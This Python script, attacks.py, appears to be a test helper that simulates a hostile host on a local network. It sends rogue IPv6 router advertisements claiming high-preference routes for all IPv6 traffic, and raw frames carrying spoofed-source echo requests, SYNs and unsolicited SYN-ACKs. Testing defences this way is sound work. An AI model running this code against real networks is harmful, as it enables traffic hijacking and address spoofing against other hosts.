"""What a hostile neighbour sends, whole frames on eth0; a program of its own.

``attacks.py announce``: router advertisements, one a second, until it is ended: a router of high
preference with routes to both halves of IPv6 (RFC 4861 section 4.2, RFC 4191 section 2.3).

``attacks.py probe ADDRESS MAC OWN_MAC SOURCE…``: echo requests, TCP SYNs, and SYN-ACKs to ports
that nobody has asked from, to an address behind a link address; from each source.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from ipaddress import IPv4Address, IPv6Address, ip_address

EACH = 10
PORTS = (80, 40000)
SYN, SYN_ACK = 0x02, 0x12


def checksum(data: bytes) -> int:
    """RFC 1071."""
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def pseudo(source: bytes, target: bytes, protocol: int, size: int) -> bytes:
    """What a checksum covers besides the packet (RFC 793, RFC 8200 section 8.1)."""
    if len(source) == 4:
        return source + target + struct.pack("!BBH", 0, protocol, size)
    return source + target + struct.pack("!II", size, protocol)


def packet(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    """An IP packet of either family."""
    one, two = ip_address(source), ip_address(target)
    if isinstance(one, IPv6Address):
        head = struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64)
        return head + one.packed + two.packed + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0)
    head += one.packed + two.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def echo(source: str, target: str, number: int) -> bytes:
    """An echo request."""
    one, two = ip_address(source).packed, ip_address(target).packed
    kind, protocol = (8, 1) if len(one) == 4 else (128, 58)
    message = struct.pack("!BBHHH", kind, 0, 0, 0x7777, number)
    covered = message if protocol == 1 else pseudo(one, two, protocol, len(message)) + message
    message = message[:2] + struct.pack("!H", checksum(covered)) + message[4:]
    return packet(source, target, protocol, message)


def segment(source: str, target: str, port: int, flags: int, number: int) -> bytes:
    """A TCP segment from port 443 or, where it asks for a connection, from one of its own."""
    one, two = ip_address(source).packed, ip_address(target).packed
    ours = 443 if flags == SYN_ACK else 50000 + number
    head = struct.pack("!HHIIBBHHH", ours, port, 1000, 2000, 5 << 4, flags, 65535, 0, 0)
    total = checksum(pseudo(one, two, 6, len(head)) + head)
    return packet(source, target, 6, head[:16] + struct.pack("!H", total) + head[18:])


def probe(address: str, mac: str, own: str, *sources: str) -> None:
    """Send them all."""
    kind = 0x0800 if isinstance(ip_address(address), IPv4Address) else 0x86DD
    head = bytes.fromhex((mac + own).replace(":", "")) + struct.pack("!H", kind)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        for source in sources:
            for number in range(EACH):
                probes = [echo(source, address, number)]
                for port in PORTS:
                    for flags in (SYN, SYN_ACK):
                        probes.append(segment(source, address, port, flags, number))
                for each in probes:
                    wire.send(head + each)


def announce() -> None:
    """Announce ourselves as a router."""
    high = 0x08
    routes = b"".join(
        struct.pack("!BBBBI", 24, 2, 1, high, 1800) + first + bytes(7) for first in (b"\0", b"\x80")
    )
    advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, high, 1800, 0, 0) + routes
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as wire:
        wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        index = socket.if_nametoindex("eth0")
        wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        while True:
            wire.sendto(advertisement, ("ff02::1", 0, 0, index))
            time.sleep(1)


if __name__ == "__main__":
    if sys.argv[1] == "announce":
        announce()
    else:
        probe(*sys.argv[2:])
